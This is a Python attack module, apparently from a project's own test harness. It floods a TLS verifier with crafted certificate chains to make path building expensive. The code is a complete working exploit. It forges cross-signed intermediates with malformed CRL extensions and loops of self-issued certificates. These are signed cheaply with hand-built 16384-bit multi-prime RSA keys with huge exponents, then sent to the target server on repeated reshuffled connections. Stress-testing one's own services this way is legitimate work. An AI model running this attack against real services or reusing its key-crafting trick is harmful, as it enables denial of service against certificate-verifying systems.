"""A presented chain that makes a path search expensive.

Beside its good chain the host presents junk: X has the genuine intermediate's name, key and key identifier, but is
issued by Y; the Ys are self-issued and issue each other. OpenSSL's kin at the handshake passes over X, whose
cRLDistributionPoints are malformed; a verifier that doesn't look at those tries X first, and then all Ys below all Ys.
Y's key is RSA of 16384 bits with an exponent of 64 bits, which costs whoever verifies most; it is made of many small
primes, so that its owner signs in no time.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import random
import socket
import ssl
import struct
import tempfile
import time
from collections import Counter
from pathlib import Path

from benchmarks.wire import opening
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import ExtensionOID, NameOID

from attacks.target import Target, over
from certplane.pki.der import read_element, read_sequence
from certplane.runtime.clock import SystemClock
from certplane.sandbox.certificates import DAY

_PATH = "/certplane.v1.EnrollmentService/GetIdentity"
_PRIMES = 32
_EXPONENT = (1 << 63) + 29
_A_SECOND = 4
_CALL = struct.pack(">I", 5)[1:] + b"\0\1\0\0\0\1" + b"\0" * 5
"""A DATA frame that ends the stream, with an empty message in it."""


async def run(target: Target, seconds: float) -> Counter[str]:
    """Connect and call four times a second, the junk in another order each time."""
    chain = x509.load_pem_x509_certificates(target.chain_file.read_bytes())
    with tempfile.TemporaryDirectory() as folder:
        made = await asyncio.to_thread(junk, chain[1])
        return await asyncio.to_thread(_call, target, chain, made, Path(folder) / "chain.pem", seconds)


def _call(
    target: Target, chain: list[x509.Certificate], made: list[x509.Certificate], file: Path, seconds: float
) -> Counter[str]:
    counts: Counter[str] = Counter()
    begun = time.monotonic()
    with contextlib.ExitStack() as stack:
        while not over(begun, seconds):
            random.shuffle(made)
            presented = [chain[0], *made[:-1], chain[1], made[-1]]
            file.write_bytes(b"".join(entry.public_bytes(Encoding.PEM) for entry in presented))
            context = target.context(identity=False)
            # With tickets, the whole chain goes into each of them, and is too long for one.
            context.maximum_version = ssl.TLSVersion.TLSv1_2
            context.options |= ssl.OP_NO_TICKET
            context.load_cert_chain(file, target.key_file)
            try:
                raw = stack.enter_context(socket.create_connection(("127.0.0.1", target.port), timeout=5))
                connection = stack.enter_context(context.wrap_socket(raw, server_hostname="localhost"))
                connection.sendall(opening(_PATH) + _CALL)
            except OSError:
                counts["refused at the handshake"] += 1
            else:
                counts["calls"] += 1
            time.sleep(1 / _A_SECOND)
    return counts


def junk(intermediate: x509.Certificate, *, crosses: int = 3, loops: int = 6) -> list[x509.Certificate]:
    """X so often, and Y so often."""
    primes: list[int] = []
    while len(primes) < _PRIMES:
        numbers = rsa.generate_private_key(65537, 1024).private_numbers()  # noqa: S505 - two primes of 512 bits
        primes += [prime for prime in (numbers.p, numbers.q) if (prime - 1) % _EXPONENT]
    signer = _Signer(primes)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Y")])
    subject_id = intermediate.extensions.get_extension_for_class(x509.SubjectKeyIdentifier).value
    made = []
    for number in range(crosses + loops):
        cross = number < crosses
        now = SystemClock().now()
        builder = (
            x509.CertificateBuilder()
            .subject_name(intermediate.subject if cross else name)
            .issuer_name(name)
            .public_key(intermediate.public_key() if cross else signer.public_key)
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - DAY)
            .not_valid_after(now + DAY)
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .add_extension(_certificates_only(), critical=True)
        )
        if cross:
            builder = builder.add_extension(subject_id, critical=False).add_extension(
                x509.UnrecognizedExtension(ExtensionOID.CRL_DISTRIBUTION_POINTS, b"\x30\x03\x02\x01"), critical=False
            )
        else:
            own_id = x509.SubjectKeyIdentifier(hashlib.sha1(b"Y", usedforsecurity=False).digest())
            builder = builder.add_extension(own_id, critical=False)
        authority_id = hashlib.sha1(b"Y", usedforsecurity=False).digest()
        builder = builder.add_extension(x509.AuthorityKeyIdentifier(authority_id, None, None), critical=False)
        made.append(signer.sign(builder))
    return made


class _Signer:
    """RSA with many primes: who knows them signs by each alone."""

    def __init__(self, primes: list[int]) -> None:
        self._primes = primes
        self._modulus = 1
        for prime in primes:
            self._modulus *= prime
        self.public_key = rsa.RSAPublicNumbers(_EXPONENT, self._modulus).public_key()
        self._template = rsa.generate_private_key(65537, 2048)

    def sign(self, builder: x509.CertificateBuilder) -> x509.Certificate:
        template = builder.sign(self._template, hashes.SHA256())
        body = template.tbs_certificate_bytes
        algorithm = read_sequence(read_element(template.public_bytes(Encoding.DER)))[1].encoded
        length = (self._modulus.bit_length() + 7) // 8
        digest = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(body).digest()
        padded = int.from_bytes(b"\0\1" + b"\xff" * (length - 3 - len(digest)) + b"\0" + digest)
        signature = 0
        for prime in self._primes:
            rest = self._modulus // prime
            part = pow(padded % prime, pow(_EXPONENT, -1, prime - 1), prime)
            signature += part * rest * pow(rest, -1, prime)
        encoded = (signature % self._modulus).to_bytes(length)
        return x509.load_der_x509_certificate(_der(0x30, body + algorithm + _der(0x03, b"\0" + encoded)))


def _der(tag: int, value: bytes) -> bytes:
    length = len(value)
    if length < 0x80:
        return bytes((tag, length)) + value
    octets = length.to_bytes((length.bit_length() + 7) // 8)
    return bytes((tag, 0x80 | len(octets))) + octets + value


def _certificates_only() -> x509.KeyUsage:
    return x509.KeyUsage(
        digital_signature=False, content_commitment=False, key_encipherment=False, data_encipherment=False,
        key_agreement=False, key_cert_sign=True, crl_sign=True, encipher_only=False, decipher_only=False,
    )  # fmt: skip
